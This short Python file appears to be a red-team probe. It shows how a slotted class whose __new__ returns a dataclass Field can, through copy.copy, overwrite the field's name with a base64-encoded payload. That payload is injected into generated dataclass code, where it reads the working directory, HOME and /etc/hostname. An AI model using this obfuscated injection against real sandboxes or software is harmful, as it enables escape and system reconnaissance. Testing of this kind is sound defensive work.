# family: red team, round 52a (copy.copy of a slotted object whose __new__ hands back a Field: copy sets the slot "name" on it)
import base64
import copy
import dataclasses

CODE = "eCxwcmludChfX2ltcG9ydF9fKCdvcycpLmdldGN3ZCgpLF9faW1wb3J0X18oJ29zJykuZW52aXJvblsnSE9NRSddLG9wZW4oJy9ldGMvaG9zdG5hbWUnKS5yZWFkKCksX19pbXBvcnRfXygnb3MnKSk="


@dataclasses.dataclass
class A:
    x: int = 0


box = []


class Sneaky:
    __slots__ = ("name",)

    def __new__(cls):
        if box:
            return box[0]
        return object.__new__(cls)

    def __init__(self):
        self.name = base64.b64decode(CODE).decode()


def main():
    s = Sneaky()
    box.append(dataclasses.fields(A)[0])
    copy.copy(s)

    @dataclasses.dataclass(init=False, repr=False)
    class B(A):
        pass

    print(B() == B())


main()
